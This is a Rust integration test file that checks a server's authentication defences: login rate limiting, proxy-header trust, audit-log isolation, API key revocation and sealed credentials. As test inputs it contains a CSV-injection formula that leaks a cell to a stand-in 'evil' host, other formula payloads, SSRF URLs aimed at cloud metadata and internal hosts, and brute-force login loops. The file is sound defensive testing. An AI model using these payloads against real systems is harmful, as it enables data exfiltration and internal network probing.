//! The edges of authentication, attacked over real HTTP with an injected clock: junk
//! user names cannot grow the login limiters, one junk try per 30 s from elsewhere
//! cannot lock a user out, `X-Forwarded-For` is believed only from a trusted proxy,
//! password changes are rate-limited, failed logins never reach a tenant's audit log,
//! CSV cells cannot be formulas, API keys die with their creator's role, metric
//! sources call only allowed URLs, and sealed credentials open only where sealed.

use reqwest::Method;
use serde_json::{Value, json};
use std::net::{IpAddr, SocketAddr};
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicI64, Ordering};
use swell_core::{TenantId, Timestamp};
use swell_server::auth::AuthOptions;
use swell_server::auth::limit::MAX_BUCKETS;
use swell_server::auth::source::Cidr;
use swell_server::clock::Clock;
use swell_server::controller::{Controller, ControllerOptions, Providers};
use swell_server::identity::MAX_USER_NAME;
use swell_server::metric_urls::MetricUrlPolicy;
use swell_server::secrets::SecretKey;
use swell_server::service::Service;
use swell_store::{SqliteStore, Store};

const ADMIN: &str = "edges-admin-password";

/// A clock the test moves by hand.
struct Manual(AtomicI64);

impl Clock for Manual {
    fn now(&self) -> Timestamp {
        Timestamp::from_millis(self.0.load(Ordering::SeqCst))
    }
}

struct Env {
    url: String,
    clock: Arc<Manual>,
    service: Arc<Service>,
    /// From 127.0.0.1.
    here: reqwest::Client,
    /// From 127.0.0.2 (another address on the loopback).
    elsewhere: reqwest::Client,
}

async fn serve(dir: &Path, trusted_proxies: &[&str]) -> Env {
    serve_with(dir, trusted_proxies, MetricUrlPolicy::default()).await
}

async fn serve_with(dir: &Path, trusted_proxies: &[&str], metric_urls: MetricUrlPolicy) -> Env {
    let store: Arc<dyn Store> = Arc::new(SqliteStore::open(&dir.join("swell.db")).await.unwrap());
    let clock = Arc::new(Manual(AtomicI64::new(1_800_000_000_000)));
    let controller = Controller::new(
        store.clone(),
        Providers::new(),
        clock.clone(),
        ControllerOptions::default(),
    );
    controller.start().await.unwrap();
    let key = SecretKey::load_or_create(dir, None, None).unwrap();
    let options = AuthOptions {
        trusted_proxies: trusted_proxies
            .iter()
            .map(|c| Cidr::parse(c).unwrap())
            .collect(),
        ..AuthOptions::default()
    };
    let service = Arc::new(
        Service::new(store, controller, clock.clone())
            .with_secret_key(key)
            .with_metric_url_policy(metric_urls)
            .with_auth_options(options),
    );
    service.bootstrap(Some(ADMIN)).await.unwrap();
    let app = swell_server::http::router(service.clone())
        .into_make_service_with_connect_info::<SocketAddr>();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    let from = |ip: &str| {
        reqwest::Client::builder()
            .local_address(ip.parse::<IpAddr>().unwrap())
            .build()
            .unwrap()
    };
    Env {
        url,
        clock,
        service,
        here: from("127.0.0.1"),
        elsewhere: from("127.0.0.2"),
    }
}

struct Answer {
    status: u16,
    body: Value,
    text: String,
    retry_after: Option<String>,
}

impl Env {
    #[allow(clippy::too_many_arguments)]
    async fn send(
        &self,
        http: &reqwest::Client,
        token: Option<&str>,
        method: Method,
        path: &str,
        body: Option<Value>,
        forwarded: Option<&str>,
    ) -> Answer {
        let mut req = http.request(method, format!("{}{path}", self.url));
        if let Some(t) = token {
            req = req.bearer_auth(t);
        }
        if let Some(b) = body {
            req = req.json(&b);
        }
        if let Some(f) = forwarded {
            req = req.header("x-forwarded-for", f);
        }
        let r = req.send().await.unwrap();
        let status = r.status().as_u16();
        let retry_after = r
            .headers()
            .get("retry-after")
            .map(|v| v.to_str().unwrap().to_string());
        let text = r.text().await.unwrap();
        Answer {
            status,
            body: serde_json::from_str(&text).unwrap_or(Value::Null),
            text,
            retry_after,
        }
    }

    async fn call(&self, token: &str, method: Method, path: &str, body: Option<Value>) -> Answer {
        self.send(&self.here, Some(token), method, path, body, None)
            .await
    }

    async fn ok(&self, token: &str, method: Method, path: &str, body: Value) -> Value {
        let a = self.call(token, method, path, Some(body)).await;
        assert!(
            (200..300).contains(&a.status),
            "{path}: {} {}",
            a.status,
            a.text
        );
        a.body
    }

    async fn login_from(
        &self,
        http: &reqwest::Client,
        forwarded: Option<&str>,
        user: &str,
        password: &str,
        tenant: &str,
    ) -> Answer {
        self.send(
            http,
            None,
            Method::POST,
            "/v1/auth/tokens",
            Some(json!({"user": user, "password": password, "tenant": tenant})),
            forwarded,
        )
        .await
    }

    async fn login(&self, user: &str, password: &str, tenant: &str) -> String {
        let a = self
            .login_from(&self.here, None, user, password, tenant)
            .await;
        assert_eq!(a.status, 201, "{}", a.text);
        a.body["token"].as_str().unwrap().to_string()
    }

    async fn junk(&self) -> u16 {
        self.login_from(
            &self.elsewhere,
            None,
            "admin",
            "not-the-password",
            "default",
        )
        .await
        .status
    }

    async fn entries(&self, token: &str) -> Value {
        self.call(token, Method::GET, "/v1/audit", None).await.body["entries"].clone()
    }

    async fn whoami(&self, key: &str) -> u16 {
        self.call(key, Method::GET, "/v1/auth/whoami", None)
            .await
            .status
    }

    async fn key_of(&self, token: &str, name: &str, role: &str) -> String {
        self.ok(
            token,
            Method::POST,
            "/v1/api-keys",
            json!({"name": name, "role": role}),
        )
        .await["key"]
            .as_str()
            .unwrap()
            .to_string()
    }

    async fn create_prom(&self, token: &str, url: &str) -> Answer {
        self.call(
            token,
            Method::POST,
            "/v1/groups",
            Some(prometheus_group(url)),
        )
        .await
    }

    fn advance(&self, ms: i64) {
        self.clock.0.fetch_add(ms, Ordering::SeqCst);
    }

    /// A user with `role` in `tenant`.
    async fn user(&self, admin: &str, name: &str, tenant: &str, role: &str) {
        self.ok(
            admin,
            Method::POST,
            "/v1/users",
            json!({"name": name, "password": format!("{name}-password")}),
        )
        .await;
        self.ok(
            admin,
            Method::PUT,
            &format!("/v1/tenants/{tenant}/users/{name}"),
            json!({"role": role}),
        )
        .await;
    }
}

/// 10,000 unique junk user names, some of them 1 MB long, from one address: the login
/// limiters stay within their capacity and hold no long key (the old limiter kept a
/// bucket per raw name, 1 MB keys included, and never dropped one that was not full);
/// every answer is a 401 or 429, or for a 1 MB name the body bound's 400 (a string over
/// 4096 bytes, refused before any limiter); the admin still logs in afterwards.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn junk_user_names_do_not_grow_the_limiters() {
    let dir = tempfile::tempdir().unwrap();
    let e = serve(dir.path(), &[]).await;
    // 1 MB, under the 1 MiB body limit, so the request reaches the server's checks.
    let huge = "j".repeat(1_000_000);
    let mut statuses = std::collections::BTreeMap::new();
    for i in 0..10_000 {
        let name = if i % 1000 == 7 {
            format!("{huge}{i}")
        } else {
            format!("junk-{i}")
        };
        let a = e
            .login_from(&e.here, None, &name, "whatever-pw", "default")
            .await;
        *statuses.entry(a.status).or_insert(0) += 1;
    }
    assert_eq!(
        statuses.keys().copied().collect::<Vec<_>>(),
        [400, 401, 429],
        "{statuses:?}"
    );
    assert_eq!(statuses[&400], 10, "only the 1 MB names: {statuses:?}");
    let sizes = e.service.auth().limiter_sizes();
    eprintln!("answers {statuses:?}; limiters {sizes:?}");
    for (name, size) in [
        ("per source", sizes.per_source),
        ("per user and source", sizes.per_user_and_source),
        ("per user", sizes.per_user),
    ] {
        assert!(size.keys <= MAX_BUCKETS, "{name}: {size:?}");
        // The longest key: a user name (64) and an address (IPv6/64: 24), with a separator.
        assert!(
            size.key_bytes <= size.keys * (MAX_USER_NAME + 1 + 45),
            "{name}: {size:?}"
        );
    }
    assert!(
        sizes.per_user.keys <= 60,
        "only names within the source's budget reached a user map: {sizes:?}"
    );
    // The limit is the address's, not the admin's: from another address, at once.
    let a = e
        .login_from(&e.elsewhere, None, "admin", ADMIN, "default")
        .await;
    assert_eq!(a.status, 201, "{}", a.text);
    // And from this one once its budget refills.
    e.advance(2_000);
    e.login("admin", ADMIN, "default").await;
}

/// An attacker trying `admin`'s password from another address once every 30 s (after
/// a burst) used to keep `admin` locked out for good; now the budget is per user and
/// address, and the attacker alone is limited.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn admin_is_not_locked_out_by_junk_tries_from_another_address() {
    let dir = tempfile::tempdir().unwrap();
    let e = serve(dir.path(), &[]).await;
    for _ in 0..10 {
        assert_eq!(e.junk().await, 401);
    }
    assert_eq!(e.junk().await, 429, "the attacker's own budget is spent");
    for round in 0..12 {
        e.advance(30_000);
        assert_eq!(e.junk().await, 401, "round {round}: one more try earned");
        let a = e.login_from(&e.here, None, "admin", ADMIN, "default").await;
        assert_eq!(a.status, 201, "round {round}: {}", a.text);
    }
}

/// `X-Forwarded-For` names the client only when the peer is a trusted proxy: through
/// the proxy (127.0.0.1) two clients have two budgets and the audit log shows their
/// addresses; from elsewhere (127.0.0.2) the header is the caller's claim, ignored.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forwarded_for_is_believed_only_from_a_trusted_proxy() {
    let dir = tempfile::tempdir().unwrap();
    let e = serve(dir.path(), &["127.0.0.1/32"]).await;
    let admin = e.login("admin", ADMIN, "default").await;
    e.user(&admin, "bob", "default", "member").await;
    for _ in 0..10 {
        let a = e
            .login_from(&e.here, Some("198.51.100.7"), "bob", "wrong-pw", "default")
            .await;
        assert_eq!(a.status, 401);
    }
    let a = e
        .login_from(
            &e.here,
            Some("198.51.100.7"),
            "bob",
            "bob-password",
            "default",
        )
        .await;
    assert_eq!(a.status, 429, "client .7's budget for bob is spent");
    assert!(a.retry_after.is_some());
    let a = e
        .login_from(
            &e.here,
            Some("198.51.100.8"),
            "bob",
            "bob-password",
            "default",
        )
        .await;
    assert_eq!(a.status, 201, "client .8 has its own: {}", a.text);
    // A forged hop left of what the proxy appended changes nothing.
    let a = e
        .login_from(
            &e.here,
            Some("203.0.113.1, 198.51.100.7"),
            "bob",
            "bob-password",
            "default",
        )
        .await;
    assert_eq!(a.status, 429);

    // Not from the proxy: the header is ignored; the peer's own budget counts.
    for _ in 0..10 {
        let a = e
            .login_from(
                &e.elsewhere,
                Some("198.51.100.99"),
                "bob",
                "wrong",
                "default",
            )
            .await;
        assert_eq!(a.status, 401);
    }
    let a = e
        .login_from(
            &e.elsewhere,
            Some("198.51.100.100"),
            "bob",
            "bob-password",
            "default",
        )
        .await;
    assert_eq!(a.status, 429, "a new header does not buy a new budget");

    let log = e
        .call(&admin, Method::GET, "/v1/audit?all=true", None)
        .await
        .body;
    let sources: Vec<&str> = log["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["target"] == "/v1/auth/tokens")
        .filter_map(|r| r["source"].as_str())
        .collect();
    assert!(sources.contains(&"198.51.100.7"), "{sources:?}");
    assert!(sources.contains(&"198.51.100.8"), "{sources:?}");
    assert!(sources.contains(&"127.0.0.2"), "{sources:?}");
    assert!(!sources.contains(&"198.51.100.99"), "{sources:?}");
    assert!(!sources.contains(&"203.0.113.1"), "{sources:?}");
}

/// A stolen token used to guess `current_password` without limit; now the guesses
/// share the login budget of the user from that address: 429 with Retry-After well
/// before the 30th, and the password is unchanged.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn password_changes_are_rate_limited() {
    let dir = tempfile::tempdir().unwrap();
    let e = serve(dir.path(), &[]).await;
    let admin = e.login("admin", ADMIN, "default").await;
    e.user(&admin, "ann", "default", "viewer").await;
    let stolen = e.login("ann", "ann-password", "default").await;
    let mut first_429 = None;
    for i in 1..=30 {
        let a = e
            .call(
                &stolen,
                Method::PUT,
                "/v1/users/ann/password",
                Some(json!({"password": "attacker-password", "current_password": format!("guess-{i}")})),
            )
            .await;
        match a.status {
            400 => assert_eq!(a.body["field"], "current_password", "{}", a.text),
            429 => {
                assert!(a.retry_after.is_some(), "{}", a.text);
                first_429.get_or_insert(i);
            }
            other => panic!("try {i}: {other} {}", a.text),
        }
    }
    let first = first_429.expect("no 429 in 30 tries");
    assert!(first < 30, "first 429 at try {first}");
    // Not locked out of the right answer for good: the budget refills.
    e.advance(30_000);
    e.ok(
        &stolen,
        Method::PUT,
        "/v1/users/ann/password",
        json!({"password": "ann-new-password", "current_password": "ann-password"}),
    )
    .await;
    e.advance(30_000);
    e.login("ann", "ann-new-password", "default").await;
}

/// A failed login naming tenant acme used to land in acme's audit log (anyone could
/// write into any tenant's log); now it is the service's (tenant none, admins only).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failed_logins_stay_out_of_the_named_tenants_audit_log() {
    let dir = tempfile::tempdir().unwrap();
    let e = serve(dir.path(), &[]).await;
    let admin = e.login("admin", ADMIN, "default").await;
    e.ok(&admin, Method::POST, "/v1/tenants", json!({"name": "acme"}))
        .await;
    e.user(&admin, "olga", "acme", "owner").await;
    let olga = e.login("olga", "olga-password", "acme").await;
    let before = e.entries(&olga).await;
    for (user, password) in [
        ("olga", "wrong-password"),
        ("nobody", "wrong-password"),
        ("=HYPERLINK(\"http://evil\")", "x-x-x-x-x"),
    ] {
        let a = e.login_from(&e.here, None, user, password, "acme").await;
        assert_eq!(a.status, 401);
    }
    assert_eq!(e.entries(&olga).await, before, "acme's log is unchanged");
    let all = e
        .call(&admin, Method::GET, "/v1/audit?all=true", None)
        .await
        .body;
    let failed: Vec<&Value> = all["entries"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["result"] == 401)
        .collect();
    assert_eq!(failed.len(), 3, "{all}");
    assert!(failed.iter().all(|r| r["tenant"].is_null()), "{all}");
    // A bad token is not recorded in any tenant either.
    let a = e
        .send(
            &e.here,
            Some("swt_forged"),
            Method::POST,
            "/v1/groups",
            Some(json!({})),
            None,
        )
        .await;
    assert_eq!(a.status, 401);
    assert_eq!(e.entries(&olga).await, before);
}

/// The audit log's CSV: a user name or a path that a spreadsheet would run as a
/// formula starts with `'`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_csv_cells_are_not_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let e = serve(dir.path(), &[]).await;
    let admin = e.login("admin", ADMIN, "default").await;
    let formula = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
    e.login_from(&e.here, None, formula, "x-x-x-x-x", "default")
        .await;
    for user in ["+1+cmd", "-2+cmd", "@SUM(A1)"] {
        e.login_from(&e.here, None, user, "x-x-x-x-x", "default")
            .await;
    }
    let csv = e
        .call(&admin, Method::GET, "/v1/audit?all=true&format=csv", None)
        .await
        .text;
    assert!(csv.contains("'=HYPERLINK("), "{csv}");
    for line in csv.lines() {
        // Split naively: a quoted cell starts with `"`, which is harmless.
        for cell in line.split(',') {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "cell `{cell}` in {line}"
            );
        }
    }
    for neutralised in ["'+1+cmd", "'-2+cmd", "'@SUM(A1)"] {
        assert!(csv.contains(neutralised), "{neutralised}: {csv}");
    }
}

/// An API key acts with its creator's rights: it stops working when the creator is
/// deleted, loses their role in the tenant, or is lowered below the key's role; a
/// user re-created under the same name does not bring it back.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn api_keys_die_with_their_creators_role() {
    let dir = tempfile::tempdir().unwrap();
    let e = serve(dir.path(), &[]).await;
    let admin = e.login("admin", ADMIN, "default").await;

    // Deleted creator.
    e.user(&admin, "del", "default", "owner").await;
    let t = e.login("del", "del-password", "default").await;
    let k = e.key_of(&t, "k-del", "member").await;
    assert_eq!(e.whoami(&k).await, 200);
    assert_eq!(
        e.call(&admin, Method::DELETE, "/v1/users/del", None)
            .await
            .status,
        204
    );
    assert_eq!(e.whoami(&k).await, 401, "creator deleted");
    // Re-created under the same name, with the same role: still dead.
    e.user(&admin, "del", "default", "owner").await;
    assert_eq!(
        e.whoami(&k).await,
        401,
        "a new user of that name is not the creator"
    );

    // Role taken away.
    e.user(&admin, "rev", "default", "owner").await;
    let t = e.login("rev", "rev-password", "default").await;
    let k = e.key_of(&t, "k-rev", "viewer").await;
    assert_eq!(e.whoami(&k).await, 200);
    e.call(
        &admin,
        Method::DELETE,
        "/v1/tenants/default/users/rev",
        None,
    )
    .await;
    assert_eq!(e.whoami(&k).await, 401, "creator's role revoked");

    // Lowered below the key's role (to the key's role is still fine).
    e.user(&admin, "low", "default", "owner").await;
    let t = e.login("low", "low-password", "default").await;
    let k = e.key_of(&t, "k-low", "member").await;
    let by_key = e.key_of(&t, "k-low-owner", "owner").await;
    let grandchild = e.key_of(&by_key, "k-by-key", "viewer").await;
    assert_eq!(e.whoami(&grandchild).await, 200, "a key made by a key");
    for (role, key_ok, owner_key_ok) in [("member", 200, 401), ("viewer", 401, 401)] {
        e.ok(
            &admin,
            Method::PUT,
            "/v1/tenants/default/users/low",
            json!({"role": role}),
        )
        .await;
        assert_eq!(e.whoami(&k).await, key_ok, "creator lowered to {role}");
        assert_eq!(e.whoami(&by_key).await, owner_key_ok, "{role}");
        assert_eq!(
            e.whoami(&grandchild).await,
            401,
            "its parent key is dead, so is it ({role})"
        );
    }

    // An admin's key lives while the admin is one.
    let k = e.key_of(&admin, "k-admin", "owner").await;
    assert_eq!(e.whoami(&k).await, 200);
}

fn prometheus_group(url: &str) -> Value {
    json!({
        "name": "web",
        "provider": "process",
        "template": {"command": ["sleep", "60"]},
        "max": 1,
        "metric_sources": [
            {"type": "prometheus", "url": url, "query": "up", "metric": "cpu"}
        ]
    })
}

/// A member could point a metric source at any URL and have the server call it
/// (cloud metadata, internal services). By default only loopback hosts pass; with
/// `--allow-metric-url` only the prefixes given. Refused: 403 naming the field.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metric_source_urls_must_be_allowed() {
    let dir = tempfile::tempdir().unwrap();
    let e = serve(dir.path(), &[]).await;
    let admin = e.login("admin", ADMIN, "default").await;
    e.user(&admin, "mem", "default", "member").await;
    let member = e.login("mem", "mem-password", "default").await;
    for url in [
        "http://169.254.169.254/latest/meta-data",
        "http://10.0.0.1:9090",
        "http://127.0.0.1@evil.example",
    ] {
        let a = e.create_prom(&member, url).await;
        assert_eq!(a.status, 403, "{url}: {}", a.text);
        assert_eq!(a.body["field"], "metric_sources[0].url", "{}", a.text);
    }
    // A loopback URL passes this check (this test server has no provider, so the
    // answer is about `provider`, not the URL).
    let a = e.create_prom(&member, "http://127.0.0.1:9090").await;
    assert_ne!(a.body["field"], "metric_sources[0].url", "{}", a.text);
    assert!(
        e.call(&member, Method::GET, "/v1/groups", None)
            .await
            .text
            .contains("[]")
    );

    let dir = tempfile::tempdir().unwrap();
    let policy = MetricUrlPolicy::prefixes(&["http://prom.internal:9090"]).unwrap();
    let e = serve_with(dir.path(), &[], policy).await;
    let admin = e.login("admin", ADMIN, "default").await;
    let a = e.create_prom(&admin, "http://127.0.0.1:9090").await;
    assert_eq!(
        a.status, 403,
        "an allow-list replaces the loopback default: {}",
        a.text
    );
    let a = e.create_prom(&admin, "http://prom.internal:9090/").await;
    assert_ne!(a.body["field"], "metric_sources[0].url", "{}", a.text);
}

/// A sealed credential moved to another tenant's row (or another name) does not open.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sealed_credentials_open_only_where_sealed() {
    let dir = tempfile::tempdir().unwrap();
    let e = serve(dir.path(), &[]).await;
    let store = e.service.store().clone();
    let now = Timestamp::from_millis(1_800_000_000_000);
    let acme = TenantId::new("acme").unwrap();
    store.ensure_tenant(&acme, now).await.unwrap();
    let default = TenantId::default_tenant();
    e.service
        .put_provider_credential(&default, "openstack", b"default-project-secret")
        .await
        .unwrap();
    let sealed = store
        .get_credential(&default, "openstack")
        .await
        .unwrap()
        .unwrap();
    store
        .put_credential(&acme, "openstack", &sealed, now)
        .await
        .unwrap();
    store
        .put_credential(&default, "docker", &sealed, now)
        .await
        .unwrap();
    assert!(
        e.service
            .provider_credential(&acme, "openstack")
            .await
            .is_err()
    );
    assert!(
        e.service
            .provider_credential(&default, "docker")
            .await
            .is_err()
    );
    assert_eq!(
        e.service
            .provider_credential(&default, "openstack")
            .await
            .unwrap()
            .as_deref(),
        Some(&b"default-project-secret"[..])
    );
}

/// Deleting the last tenant used to lock every admin out for good (every login is to
/// a tenant); now it is a 409 saying why, and so is deleting the last admin. Roles do
/// not matter to admins, so taking an admin's role away locks nobody out.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_operators_cannot_be_locked_out() {
    let dir = tempfile::tempdir().unwrap();
    let e = serve(dir.path(), &[]).await;
    let admin = e.login("admin", ADMIN, "default").await;
    let a = e
        .call(&admin, Method::DELETE, "/v1/tenants/default", None)
        .await;
    assert_eq!(a.status, 409, "{}", a.text);
    assert!(
        a.body["detail"].as_str().unwrap().contains("last"),
        "{}",
        a.text
    );
    assert!(
        a.text.contains("application/problem+json") || a.body["status"] == 409,
        "{}",
        a.text
    );
    e.login("admin", ADMIN, "default").await;

    // With another tenant, one may go; then the other is the last.
    e.ok(&admin, Method::POST, "/v1/tenants", json!({"name": "acme"}))
        .await;
    let a = e
        .call(&admin, Method::DELETE, "/v1/tenants/default", None)
        .await;
    assert_eq!(a.status, 204, "{}", a.text);
    let admin = e.login("admin", ADMIN, "acme").await;
    let a = e
        .call(&admin, Method::DELETE, "/v1/tenants/acme", None)
        .await;
    assert_eq!(a.status, 409, "{}", a.text);
    e.login("admin", ADMIN, "acme").await;

    // The last admin cannot be deleted; a second one can be, then not the first.
    let a = e
        .call(&admin, Method::DELETE, "/v1/users/admin", None)
        .await;
    assert_eq!(a.status, 409, "{}", a.text);
    e.ok(
        &admin,
        Method::POST,
        "/v1/users",
        json!({"name": "ops", "password": "ops-password", "admin": true}),
    )
    .await;
    let mut ops = e.login("ops", "ops-password", "acme").await;
    let a = e.call(&ops, Method::DELETE, "/v1/users/admin", None).await;
    assert_eq!(a.status, 204, "{}", a.text);
    let a = e.call(&ops, Method::DELETE, "/v1/users/ops", None).await;
    assert_eq!(a.status, 409, "{}", a.text);

    // Two tenants deleted at once: never both (the check and the delete are one step).
    for round in 0..5 {
        // Three logins a round: the budget of one user from one address refills.
        e.advance(100_000);
        let (b, c) = (format!("b{round}"), format!("c{round}"));
        for name in [&b, &c] {
            e.ok(&ops, Method::POST, "/v1/tenants", json!({"name": name}))
                .await;
        }
        let a = e.call(&ops, Method::DELETE, "/v1/tenants/acme", None).await;
        assert_eq!(a.status, 204, "{}", a.text);
        let on_b = e.login("ops", "ops-password", &b).await;
        let (path_b, path_c) = (format!("/v1/tenants/{b}"), format!("/v1/tenants/{c}"));
        let (x, y) = tokio::join!(
            e.call(&on_b, Method::DELETE, &path_b, None),
            e.call(&on_b, Method::DELETE, &path_c, None),
        );
        assert!(
            !(x.status == 204 && y.status == 204),
            "round {round}: both deleted"
        );
        let left = if x.status == 204 { &c } else { &b };
        // Whichever is left still takes the admin's login; put `acme` back through it.
        let t = e.login("ops", "ops-password", left).await;
        e.ok(&t, Method::POST, "/v1/tenants", json!({"name": "acme"}))
            .await;
        let a = e
            .call(&t, Method::DELETE, &format!("/v1/tenants/{left}"), None)
            .await;
        assert_eq!(a.status, 204, "{}", a.text);
        let ops_acme = e.login("ops", "ops-password", "acme").await;
        ops = ops_acme;
    }
    let ops = e.login("ops", "ops-password", "acme").await;

    // A role given to an admin and taken away again: still an admin, still logs in.
    e.ok(
        &ops,
        Method::PUT,
        "/v1/tenants/acme/users/ops",
        json!({"role": "viewer"}),
    )
    .await;
    let a = e
        .call(&ops, Method::DELETE, "/v1/tenants/acme/users/ops", None)
        .await;
    assert_eq!(a.status, 204, "{}", a.text);
    let ops = e.login("ops", "ops-password", "acme").await;
    let who = e.call(&ops, Method::GET, "/v1/auth/whoami", None).await;
    assert_eq!(who.body["admin"], true, "{}", who.text);
}
